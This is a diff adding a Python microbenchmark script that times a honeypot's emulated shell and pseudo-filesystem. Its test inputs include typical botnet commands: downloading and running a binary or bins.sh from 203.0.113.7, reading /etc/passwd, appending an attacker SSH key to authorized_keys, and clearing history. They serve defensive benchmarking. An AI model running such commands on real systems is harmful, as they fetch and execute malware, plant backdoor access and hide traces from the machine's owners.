@@ -0,0 +1,241 @@
+"""
+Microbenchmarks for the fake shell: run_command and PseudoFS.
+
+    cd HoneyPot
+    python -m bench.micro                          # run everything, print a table
+    python -m bench.micro --save-baseline          # ... and store the results as the baseline
+    python -m bench.micro --filter pipe --min-time 1.0
+
+Groups:
+
+- cmd:    single commands from the usual bot mix (uname -a, cat /proc/cpuinfo, wget,
+          chmod +x, ./x, ...), each on a fresh session filesystem
+- script: the whole one-line bot script ("uname -a; cat /proc/cpuinfo; cd /tmp; ...")
+- pipe:   pipelines, on the stock files and on a 10k-line file
+- fs:     PseudoFS lookups, reads, writes, ls and find on trees of growing size
+
+run_command's built-in delay (RandomLatency) is disabled (latency=None) unless
+--latency is given, so the numbers measure the emulation itself.
+
+For every benchmark: ops/sec (best of --repeat timed runs of at least --min-time
+seconds), and from a separate tracemalloc pass, memory allocated per op (peak traced
+bytes while one op runs) and the blocks still held per op afterwards (non-zero = the op
+retains memory). The baseline (bench/results/micro_baseline.json by default) is
+compared on ops/sec: a drop larger than --threshold is flagged and makes the exit
+status 1, so the suite can gate a change.
+"""
+import argparse
+import gc
+import json
+import os
+import platform
+import sys
+import time
+import tracemalloc
+
+from deception import BaseImage, PseudoFS, run_command
+from deception.latency import DEFAULT_LATENCY
+
+HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+DEFAULT_BASELINE = os.path.join(HERE, "bench", "results", "micro_baseline.json")
+
+BOT_COMMANDS = [
+    "uname -a",
+    "cat /proc/cpuinfo",
+    "wget http://203.0.113.7/bins/x86 -O /tmp/x",
+    "chmod +x /tmp/x",
+    "./x",
+    "cd /tmp",
+    "ls -la",
+    "ps aux",
+    "cat /etc/passwd",
+    "echo 'ssh-rsa AAAAB3NzaC1yc2E bot@c2' >> ~/.ssh/authorized_keys",
+    "free -m",
+    "w",
+    "nproc",
+]
+BOT_SCRIPT = ("uname -a; cat /proc/cpuinfo | grep name | wc -l; cd /tmp || cd /var/run; "
+              "wget http://203.0.113.7/bins.sh; chmod +x bins.sh; ./bins.sh; rm -rf bins.sh; history -c")
+PIPELINES = [
+    "cat /etc/passwd | grep root | wc -l",
+    "ps aux | grep -v grep | head -5",
+    "cat /proc/cpuinfo | grep name | wc -l",
+    "cat /etc/passwd | head -3 | tail -1",
+]
+BIG_FILE_LINES = 10000
+BIG_PIPELINES = [
+    "cat /tmp/big.log | grep error | wc -l",
+    "cat /tmp/big.log | head -5",
+    "grep -c 'session 42' /tmp/big.log",
+    "tail -20 /tmp/big.log",
+]
+TREE_SIZES = (100, 1000, 10000, 100000)
+
+
+def make_tree(n):
+    """A template with n files, 50 per directory, two directory levels deep."""
+    return {f"/srv/data/d{i // 2500}/s{(i // 50) % 50}/file{i}.txt": f"content {i}\n" for i in range(n)}
+
+
+def timed(fn, min_time, repeat):
+    """Best ops/sec over `repeat` runs, each calling fn in a loop for at least min_time seconds."""
+    best = 0.0
+    for _ in range(repeat):
+        n, batch = 0, 1
+        start = time.perf_counter()
+        while True:
+            for _ in range(batch):
+                fn()
+            n += batch
+            elapsed = time.perf_counter() - start
+            if elapsed >= min_time:
+                break
+            batch *= 2
+        best = max(best, n / elapsed)
+    return best
+
+
+def allocations(fn, ops=200):
+    """(peak bytes allocated while one op runs, blocks still held per op after `ops` ops)."""
+    fn()  # warm caches (interned strings, statement caches) before tracing
+    gc.collect()
+    tracemalloc.start()
+    try:
+        tracemalloc.reset_peak()
+        before, _ = tracemalloc.get_traced_memory()
+        fn()
+        _, peak = tracemalloc.get_traced_memory()
+        gc.collect()
+        blocks = sys.getallocatedblocks()
+        for _ in range(ops):
+            fn()
+        gc.collect()
+        held = (sys.getallocatedblocks() - blocks) / ops
+    finally:
+        tracemalloc.stop()
+    return peak - before, held
+
+
+def command_cases(latency):
+    cases = []
+    # a fresh session each time (O(1)): appends and downloads must not pile up across ops
+    for cmd in BOT_COMMANDS:
+        cases.append(("cmd", cmd, lambda cmd=cmd: run_command(cmd, PseudoFS(), latency=latency)))
+    cases.append(("script", "bot one-liner",
+                  lambda: run_command(BOT_SCRIPT, PseudoFS(), latency=latency)))
+    fs = PseudoFS()
+    for cmd in PIPELINES:
+        cases.append(("pipe", cmd, lambda cmd=cmd: run_command(cmd, fs, latency=latency)))
+    big = PseudoFS()
+    big.write_file("/tmp/big.log", "".join(
+        f"Oct 17 04:{i // 60 % 60:02d}:{i % 60:02d} host sshd[{1000 + i}]: "
+        f"{'error' if i % 7 == 0 else 'info'}: session {i % 100}\n" for i in range(BIG_FILE_LINES)))
+    for cmd in BIG_PIPELINES:
+        cases.append(("pipe", f"{cmd} ({BIG_FILE_LINES} lines)",
+                      lambda cmd=cmd: run_command(cmd, big, latency=latency)))
+    return cases
+
+
+def fs_cases(sizes):
+    cases = []
+    for n in sizes:
+        image = BaseImage(make_tree(n))
+        fs = PseudoFS(image=image)
+        probe = f"/srv/data/d{(n - 1) // 2500}/s{((n - 1) // 50) % 50}/file{n - 1}.txt"
+        deep_dir = probe.rsplit("/", 1)[0]
+        counter = iter(range(10 ** 9))
+        cases += [
+            ("fs", f"new session [{n} files]", lambda image=image: PseudoFS(image=image)),
+            ("fs", f"exists [{n} files]", lambda fs=fs, p=probe: fs.exists(p)),
+            ("fs", f"read_text [{n} files]", lambda fs=fs, p=probe: fs.read_text(p)),
+            # its own session: the files it adds must not grow the tree the other cases use
+            ("fs", f"write_file new [{n} files]",
+             lambda fs=PseudoFS(image=image), d=deep_dir, c=counter: fs.write_file(f"{d}/new{next(c)}", "x\n")),
+            ("fs", f"write_file fresh session [{n} files]",
+             lambda image=image, p=probe: PseudoFS(image=image).write_file(p, "changed\n")),
+            ("fs", f"ls dir [{n} files]", lambda p=deep_dir, image=image: PseudoFS(image=image).ls(p)),
+        ]
+        if n <= 10000:
+            cases.append(("fs", f"find -name [{n} files]",
+                          lambda fs=fs: fs.find("/srv", name="file1*.txt")))
+    return cases
+
+
+def run(args):
+    latency = DEFAULT_LATENCY if args.latency else None
+    sizes = [int(s) for s in args.sizes.split(",")] if args.sizes else TREE_SIZES
+    cases = command_cases(latency) + fs_cases(sizes)
+    if args.filter:
+        cases = [c for c in cases if args.filter in f"{c[0]}:{c[1]}"]
+    results = {}
+    for group, name, fn in cases:
+        ops = timed(fn, args.min_time, args.repeat)
+        peak, held = allocations(fn, ops=min(200, max(10, int(ops * 0.2))))
+        key = f"{group}:{name}"
+        results[key] = {"ops_per_sec": round(ops, 1), "us_per_op": round(1e6 / ops, 2),
+                        "alloc_peak_bytes": peak, "held_blocks_per_op": round(held, 2)}
+        print(f"{key:<62} {ops:>12,.0f} ops/s {1e6 / ops:>10.1f} us {peak:>10,} B {held:>7.2f} blk",
+              flush=True)
+    return results
+
+
+def compare(baseline, results, threshold):
+    """Names whose ops/sec dropped more than threshold (a fraction) below the baseline."""
+    regressions = []
+    for key, r in results.items():
+        old = baseline.get("results", {}).get(key)
+        if not old:
+            continue
+        change = r["ops_per_sec"] / old["ops_per_sec"] - 1
+        r["baseline_change"] = round(change * 100, 1)
+        if change < -threshold:
+            regressions.append((key, old["ops_per_sec"], r["ops_per_sec"], change))
+    return regressions
+
+
+def main(argv=None):
+    parser = argparse.ArgumentParser(description="Microbenchmarks for run_command and PseudoFS")
+    parser.add_argument("--filter", help="only benchmarks whose 'group:name' contains this")
+    parser.add_argument("--min-time", type=float, default=0.2, help="seconds per timed run")
+    parser.add_argument("--repeat", type=int, default=3, help="timed runs per benchmark (best is kept)")
+    parser.add_argument("--sizes", help=f"comma-separated PseudoFS tree sizes (default {TREE_SIZES})")
+    parser.add_argument("--latency", action="store_true", help="keep run_command's built-in delay")
+    parser.add_argument("--baseline", default=DEFAULT_BASELINE, help="baseline file to compare against")
+    parser.add_argument("--save-baseline", action="store_true", help="store these results as the baseline")
+    parser.add_argument("--threshold", type=float, default=10.0, help="regression threshold, percent of ops/sec")
+    parser.add_argument("--out", help="also write the results to this JSON file")
+    args = parser.parse_args(argv)
+
+    print(f"{'benchmark':<62} {'ops/sec':>16} {'per op':>13} {'alloc':>12} {'held':>11}")
+    results = run(args)
+    doc = {
+        "timestamp": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
+        "host": {"python": platform.python_version(), "platform": platform.platform()},
+        "latency": args.latency,
+        "results": results,
+    }
+
+    regressions = []
+    if os.path.exists(args.baseline) and not args.save_baseline:
+        with open(args.baseline) as f:
+            baseline = json.load(f)
+        regressions = compare(baseline, results, args.threshold / 100)
+        print(f"\n[*] Compared with {args.baseline} ({baseline.get('timestamp')})")
+        for key, old, new, change in regressions:
+            print(f"    REGRESSION {key}: {old:,.0f} -> {new:,.0f} ops/s ({change * 100:+.1f}%)")
+        if not regressions:
+            print(f"    no regressions beyond {args.threshold:g}%")
+
+    if args.save_baseline:
+        os.makedirs(os.path.dirname(os.path.abspath(args.baseline)), exist_ok=True)
+        with open(args.baseline, "w") as f:
+            json.dump(doc, f, indent=2)
+        print(f"[*] Saved baseline {args.baseline}")
+    if args.out:
+        with open(args.out, "w") as f:
+            json.dump(doc, f, indent=2)
+    return 1 if regressions else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())